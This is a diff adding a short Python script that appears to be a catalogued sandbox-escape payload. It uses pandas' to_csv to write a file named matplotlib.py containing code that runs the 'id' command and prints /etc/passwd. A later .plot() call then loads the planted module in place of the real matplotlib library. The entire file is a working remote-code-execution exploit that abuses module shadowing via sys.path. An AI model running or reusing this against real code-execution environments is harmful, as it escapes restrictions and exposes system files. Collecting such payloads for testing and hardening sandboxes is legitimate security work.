@@ -1,0 +1,8 @@
+# source: sys.path[0]='' module shadowing (docs.python.org security_warnings: -P/PYTHONSAFEPATH) + pandas import_optional_dependency
+# family: plant module via allowed relative write (to_csv/savetxt) + lazy import of optional dependency from cwd (plain .plot() -> matplotlib)
+# goal: RCE: id + /etc/passwd
+import pandas as pd
+payload = "import os;print(os.popen('id').read());print(open('/etc/passwd').read())"
+pd.DataFrame({"c": [payload]}).to_csv("matplotlib.py", index=False, header=False)
+df = pd.DataFrame({"close": [1.0, 2.0, 3.0]})
+df["close"].plot()
